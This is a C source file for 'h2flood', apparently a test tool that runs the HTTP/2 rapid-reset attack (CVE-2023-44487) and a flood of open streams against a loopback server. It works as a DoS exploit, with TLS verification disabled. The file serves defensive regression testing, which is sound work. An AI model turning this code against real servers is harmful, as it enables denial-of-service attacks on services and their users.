/*
 * h2flood — HTTP/2 abuse against a loopback server, for t_h2abuse.sh.
 *
 *   h2flood --port P --mode reset|streams [--seconds S] [--conns N] [--path P]
 *
 * Frames are written by hand (HPACK by libnghttp2's deflater) so that the
 * client obeys none of the limits a real client would:
 *   reset    "rapid reset" (CVE-2023-44487): HEADERS then RST_STREAM(CANCEL)
 *            at once, in batches, as fast as the connection takes them
 *   streams  opens streams (POST HEADERS without END_STREAM, never a body)
 *            far past the server's SETTINGS_MAX_CONCURRENT_STREAMS, and
 *            keeps them open
 * N connections (threads) for S seconds; a connection the server closes is
 * reopened.  The server's frames are read and counted (SETTINGS are
 * acknowledged).  Prints one summary line; exit 3 when the server does not
 * speak h2 (ALPN), 0 otherwise.
 *
 * Test tool: loopback only (127.0.0.1), never deployed; every loop ends at
 * the --seconds deadline.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <pthread.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include <nghttp2/nghttp2.h>
#include <openssl/ssl.h>

#define CONNS_MAX 64
#define BATCH 64
/* Stream ids are 31 bits, odd for a client: reconnect well before. */
#define STREAM_ID_MAX 0x7ffff000u

static int port;
static int seconds = 10;
static int conns = 4;
static int mode_streams;
static const char *path = "/healthz";
static SSL_CTX *ctx;
static atomic_ulong n_headers, n_rst, n_reconnects, n_goaway, n_srv_rst, n_srv_headers,
	n_srv_bytes, n_errors;
static atomic_int no_h2;
static double t_end;

static double
now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

typedef struct h2c {
	int fd;
	SSL *ssl;
	nghttp2_hd_deflater *hd;
	uint32_t next_id;
	unsigned char in[65536];
	size_t in_len;
} h2c;

static void
frame_hdr(unsigned char *p, size_t len, uint8_t type, uint8_t flags, uint32_t sid)
{
	p[0] = (unsigned char)(len >> 16);
	p[1] = (unsigned char)(len >> 8);
	p[2] = (unsigned char)len;
	p[3] = type;
	p[4] = flags;
	p[5] = (unsigned char)((sid >> 24) & 0x7f);
	p[6] = (unsigned char)(sid >> 16);
	p[7] = (unsigned char)(sid >> 8);
	p[8] = (unsigned char)sid;
}

static int
out(h2c *c, const void *p, size_t n)
{
	const unsigned char *s = p;

	while (n > 0) {
		int w = SSL_write(c->ssl, s, (int)n);

		if (w <= 0)
			return -1;
		s += w;
		n -= (size_t)w;
	}
	return 0;
}

static void
h2c_close(h2c *c)
{
	if (c->ssl)
		SSL_free(c->ssl);
	if (c->fd >= 0)
		close(c->fd);
	if (c->hd)
		nghttp2_hd_deflate_del(c->hd);
	memset(c, 0, sizeof(*c));
	c->fd = -1;
}

static int
h2c_open(h2c *c)
{
	struct sockaddr_in a = {.sin_family = AF_INET};
	struct timeval tv = {.tv_sec = 1};
	const unsigned char *alpn = NULL;
	unsigned int alpn_len = 0;
	unsigned char f[9 + 6];
	static const char preface[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
	int one = 1;

	memset(c, 0, sizeof(*c));
	c->next_id = 1;
	a.sin_port = htons((uint16_t)port);
	a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	if ((c->fd = socket(AF_INET, SOCK_STREAM, 0)) < 0)
		return -1;
	(void)setsockopt(c->fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof(tv));
	(void)setsockopt(c->fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
	(void)setsockopt(c->fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
	if (connect(c->fd, (struct sockaddr *)&a, sizeof(a)) != 0)
		return -1;
	if ((c->ssl = SSL_new(ctx)) == NULL || SSL_set_fd(c->ssl, c->fd) != 1 ||
	    SSL_connect(c->ssl) != 1)
		return -1;
	SSL_get0_alpn_selected(c->ssl, &alpn, &alpn_len);
	if (alpn_len != 2 || memcmp(alpn, "h2", 2) != 0) {
		atomic_store(&no_h2, 1);
		return -1;
	}
	if (nghttp2_hd_deflate_new(&c->hd, 4096) != 0)
		return -1;
	/* preface + SETTINGS: initial window 64 KiB, nothing else */
	frame_hdr(f, 6, NGHTTP2_SETTINGS, 0, 0);
	f[9] = 0;
	f[10] = NGHTTP2_SETTINGS_INITIAL_WINDOW_SIZE;
	f[11] = 0;
	f[12] = 0;
	f[13] = 0xff;
	f[14] = 0xff;
	if (out(c, preface, sizeof(preface) - 1) != 0 || out(c, f, sizeof(f)) != 0)
		return -1;
	return 0;
}

/* Read and account for whatever the server sent; -1 when it closed. */
static int
drain(h2c *c)
{
	struct pollfd p = {.fd = c->fd, .events = POLLIN};

	while (SSL_pending(c->ssl) > 0 || poll(&p, 1, 0) > 0) {
		int r = SSL_read(c->ssl, c->in + c->in_len, (int)(sizeof(c->in) - c->in_len));
		size_t off = 0;

		if (r <= 0)
			return -1;
		c->in_len += (size_t)r;
		atomic_fetch_add(&n_srv_bytes, (unsigned long)r);
		while (c->in_len - off >= 9) {
			size_t len = ((size_t)c->in[off] << 16) | ((size_t)c->in[off + 1] << 8) |
				     c->in[off + 2];
			uint8_t type = c->in[off + 3], flags = c->in[off + 4];

			if (len > sizeof(c->in) - 9)
				return -1; /* larger than we asked for */
			if (c->in_len - off < 9 + len)
				break;
			if (type == NGHTTP2_SETTINGS && !(flags & NGHTTP2_FLAG_ACK)) {
				unsigned char ack[9];

				frame_hdr(ack, 0, NGHTTP2_SETTINGS, NGHTTP2_FLAG_ACK, 0);
				if (out(c, ack, 9) != 0)
					return -1;
			} else if (type == NGHTTP2_GOAWAY) {
				atomic_fetch_add(&n_goaway, 1);
			} else if (type == NGHTTP2_RST_STREAM) {
				atomic_fetch_add(&n_srv_rst, 1);
			} else if (type == NGHTTP2_HEADERS) {
				atomic_fetch_add(&n_srv_headers, 1);
			}
			off += 9 + len;
		}
		memmove(c->in, c->in + off, c->in_len - off);
		c->in_len -= off;
		p.revents = 0;
	}
	return 0;
}

static int
send_headers(h2c *c, uint32_t sid, int end_stream)
{
	static const char *post = "POST", *get = "GET";
	nghttp2_nv nv[5];
	unsigned char buf[9 + 512];
	ssize_t n;

#define NV(i, k, v)                                                                   \
	do {                                                                          \
		nv[i].name = (uint8_t *)(k);                                          \
		nv[i].value = (uint8_t *)(v);                                         \
		nv[i].namelen = strlen(k);                                            \
		nv[i].valuelen = strlen(v);                                           \
		nv[i].flags = NGHTTP2_NV_FLAG_NONE;                                   \
	} while (0)
	NV(0, ":method", end_stream ? get : post);
	NV(1, ":scheme", "https");
	NV(2, ":path", path);
	NV(3, ":authority", "127.0.0.1");
	NV(4, "content-type", "application/json");
#undef NV
	n = nghttp2_hd_deflate_hd(c->hd, buf + 9, sizeof(buf) - 9, nv, end_stream ? 4 : 5);
	if (n < 0)
		return -1;
	frame_hdr(buf, (size_t)n, NGHTTP2_HEADERS,
		  (uint8_t)(NGHTTP2_FLAG_END_HEADERS | (end_stream ? NGHTTP2_FLAG_END_STREAM : 0)),
		  sid);
	if (out(c, buf, 9 + (size_t)n) != 0)
		return -1;
	atomic_fetch_add(&n_headers, 1);
	return 0;
}

static int
send_rst(h2c *c, uint32_t sid)
{
	unsigned char f[13];

	frame_hdr(f, 4, NGHTTP2_RST_STREAM, 0, sid);
	f[9] = f[10] = f[11] = 0;
	f[12] = NGHTTP2_CANCEL;
	if (out(c, f, sizeof(f)) != 0)
		return -1;
	atomic_fetch_add(&n_rst, 1);
	return 0;
}

static void *
flood(void *arg)
{
	h2c c;
	int first = 1;

	(void)arg;
	c.fd = -1;
	c.ssl = NULL;
	c.hd = NULL;
	while (now() < t_end && !atomic_load(&no_h2)) {
		int i, bad = 0;

		if (c.ssl == NULL) {
			if (!first)
				atomic_fetch_add(&n_reconnects, 1);
			first = 0;
			if (h2c_open(&c) != 0) {
				atomic_fetch_add(&n_errors, 1);
				h2c_close(&c);
				usleep(10000);
				continue;
			}
		}
		for (i = 0; i < BATCH && !bad; i++) {
			uint32_t sid = c.next_id;

			c.next_id += 2;
			if (mode_streams)
				bad = send_headers(&c, sid, 0) != 0;
			else
				bad = send_headers(&c, sid, 1) != 0 || send_rst(&c, sid) != 0;
		}
		if (!bad)
			bad = drain(&c) != 0;
		if (bad || c.next_id > STREAM_ID_MAX) {
			h2c_close(&c);
			continue;
		}
		if (mode_streams)
			usleep(1000); /* streams stay open; the count is what matters */
	}
	h2c_close(&c);
	return NULL;
}

int
main(int argc, char **argv)
{
	pthread_t th[CONNS_MAX];
	double t0;
	int i;

	for (i = 1; i + 1 < argc; i += 2) {
		if (strcmp(argv[i], "--port") == 0)
			port = (int)strtol(argv[i + 1], NULL, 10);
		else if (strcmp(argv[i], "--seconds") == 0)
			seconds = (int)strtol(argv[i + 1], NULL, 10);
		else if (strcmp(argv[i], "--conns") == 0)
			conns = (int)strtol(argv[i + 1], NULL, 10);
		else if (strcmp(argv[i], "--path") == 0)
			path = argv[i + 1];
		else if (strcmp(argv[i], "--mode") == 0)
			mode_streams = strcmp(argv[i + 1], "streams") == 0;
		else
			break;
	}
	if (port <= 0 || i != argc || conns < 1 || conns > CONNS_MAX || seconds < 1 || seconds > 600) {
		fprintf(stderr, "usage: h2flood --port P --mode reset|streams [--seconds S<=600] [--conns N<=%d] [--path P]\n",
			CONNS_MAX);
		return 2;
	}
	signal(SIGPIPE, SIG_IGN);
	if ((ctx = SSL_CTX_new(TLS_client_method())) == NULL ||
	    SSL_CTX_set_alpn_protos(ctx, (const unsigned char *)"\x02h2", 3) != 0)
		return 1;
	SSL_CTX_set_verify(ctx, SSL_VERIFY_NONE, NULL); /* loopback test server */
	t0 = now();
	t_end = t0 + seconds;
	for (i = 0; i < conns; i++)
		if (pthread_create(&th[i], NULL, flood, NULL) != 0)
			return 1;
	for (i = 0; i < conns; i++)
		pthread_join(th[i], NULL);
	printf("mode=%s seconds=%.1f conns=%d headers=%lu rst=%lu per_second=%.0f reconnects=%lu "
	       "errors=%lu server_goaway=%lu server_rst=%lu server_headers=%lu server_bytes=%lu\n",
	       mode_streams ? "streams" : "reset", now() - t0, conns, atomic_load(&n_headers),
	       atomic_load(&n_rst), (double)atomic_load(&n_headers) / (now() - t0),
	       atomic_load(&n_reconnects), atomic_load(&n_errors), atomic_load(&n_goaway),
	       atomic_load(&n_srv_rst), atomic_load(&n_srv_headers), atomic_load(&n_srv_bytes));
	SSL_CTX_free(ctx);
	if (atomic_load(&no_h2)) {
		fprintf(stderr, "h2flood: the server did not negotiate h2\n");
		return 3;
	}
	return 0;
}
